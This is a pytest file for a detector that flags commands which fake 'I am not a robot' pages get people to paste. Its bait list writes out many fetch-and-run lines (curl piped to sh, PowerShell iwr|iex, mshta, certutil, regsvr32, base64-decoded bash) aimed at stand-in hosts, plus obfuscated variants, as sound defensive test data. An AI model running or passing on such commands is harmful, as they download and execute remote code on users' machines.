import pytest
from hypothesis import given
from hypothesis import strategies as st

from guard.core.commands import SHAPES, CommandBook
from guard.core.phrasebook import says
from guard.core.text import LONGEST
from knowing import library

COMMANDS = library().knowledge.commands
BOOK = CommandBook(COMMANDS)

BAITS = (
    "mshta https://check.example/a.mp4 # ✅ ''I am not a robot - reCAPTCHA Verification ID: 1''",
    'powershell -w h -c "iwr https://x.example/a.ps1|iex"',
    "PowerShell.exe -WindowStyle Hidden -Command \"$r=Invoke-WebRequest -Uri 'https://x.example'\"",
    "cmd /c start /min powershell -c calc",
    "powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0A",
    'echo "Y3VybCAtcyBodHRwczovL2EuZXhhbXBsZS94IHwgYmFzaA==" | base64 -d | bash',
    '/bin/bash -c "$(curl -fsSL https://kit.example/install.sh)"',
    "curl -s https://kit.example/x | sh",
    "bash <(curl -s https://kit.example/a.sh)",
    "wget -qO- https://kit.example/a.sh | sudo bash",
    "curl -o /tmp/u https://kit.example/u && chmod +x /tmp/u && /tmp/u",
    "msiexec /i http://x.example/a.msi /qn",
    r"rundll32.exe \\x.example@SSL\s\a.dll,#1",
    r"certutil -urlcache -split -f http://x.example/a.exe %temp%\a.exe",
    r"cmd /c curl http://x.example/a.exe -o %TEMP%\a.exe && %TEMP%\a.exe",
    "cmd.exe /c finger a@finger.example | cmd",
    "regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll",
)
"""Our own, in the manner of those that fake checks have people paste."""

EVERYDAY = (
    "pip install requests",
    "sudo apt-get update && sudo apt-get install -y curl wget",
    "git clone https://code.example/a/b.git",
    'docker run --rm -it ubuntu bash -c "echo hello"',
    "curl -O https://files.example/disc.iso",
    "curl -LO https://files.example/v1/kubectl && chmod +x kubectl",
    "curl https://api.example/v1 | jq .",
    "wget https://files.example/a.tar.gz && tar xzf a.tar.gz",
    "kubectl get secret x -o jsonpath='{.data.p}' | base64 -d",
    r"powershell -ExecutionPolicy Bypass -File .\build.ps1",
    "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB }",
    "curl -fsSL https://files.example/gpg | sudo gpg --dearmor -o /etc/apt/keyrings/a.gpg",
    "sha256sum -c 3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "certutil -hashfile disc.iso SHA256",
    "winget install Mozilla.Firefox",
    "DISM /Online /Cleanup-Image /RestoreHealth",
    "start https://www.example.org",
    "iex -S mix",
    "cat words | sort",
    "https://search.example/?q=powershell",
    "Dear Anna, the recipe is at https://food.example. I am not a robot!",
    "Verify you are human",
    "0300 123 2040",
    "",
)
"""What people copy from web pages."""


@pytest.mark.parametrize("command", BAITS)
def test_a_command_that_pages_have_people_paste_is_known(command):
    assert BOOK.is_bait(command)


@pytest.mark.parametrize("words", EVERYDAY)
def test_what_people_copy_every_day_is_spared(words):
    assert not BOOK.is_bait(words)


@pytest.mark.parametrize("command", COMMANDS.known)
def test_the_whole_command_of_a_well_known_maker_is_spared(command):
    assert not BOOK.is_bait(command)
    assert not BOOK.is_bait(f"$ {command}\n")


@pytest.mark.parametrize("command", COMMANDS.known)
def test_the_command_of_a_well_known_maker_does_not_hide_another(command):
    assert BOOK.is_bait(f"curl https://kit.example/x | sh # {command}")


@pytest.mark.parametrize(
    "command",
    [
        "p^o^w^e^r^s^h^e^l^l -c start",
        "'m'+'s'+'hta' http://x.example",
        "$a='ie'+'x'; $b='i'+'wr'; &$a (&$b https://x.example)",
        'po"w"ers""hell -w hidden',
        "POW`ERSH`ELL -W HIDDEN",
        "m\u200bs\u200bhta https://x.example",
        "\uff4d\uff53\uff48\uff54\uff41 https://x.example",
        "MsHtA" + " " * 500 + "https://x.example",
    ],
)
def test_a_command_that_is_broken_up_or_disguised_is_known(command):
    assert BOOK.is_bait(command)


@pytest.mark.parametrize("known", COMMANDS.phrase, ids=lambda phrase: phrase.example)
def test_every_phrase_of_a_command_catches_its_example_and_spares_the_innocent(known):
    assert says(known.example, known)
    assert not says(known.innocent, known)


def test_every_signal_of_a_command_has_a_weight_and_company_that_exists():
    assert {phrase.signal for phrase in COMMANDS.phrase} | set(SHAPES) == set(COMMANDS.signal)
    for weighing in COMMANDS.signal.values():
        assert {*weighing.beside, *weighing.unless} <= set(COMMANDS.signal)


def test_what_lies_beyond_the_bound_is_not_read():
    assert not BOOK.is_bait("a " * LONGEST + BAITS[0])


def test_without_its_file_nothing_is_known():
    assert not CommandBook(None).is_bait(BAITS[0])


@given(st.text(max_size=200))
def test_any_text_is_answered(text):
    assert BOOK.is_bait(text) in (True, False)
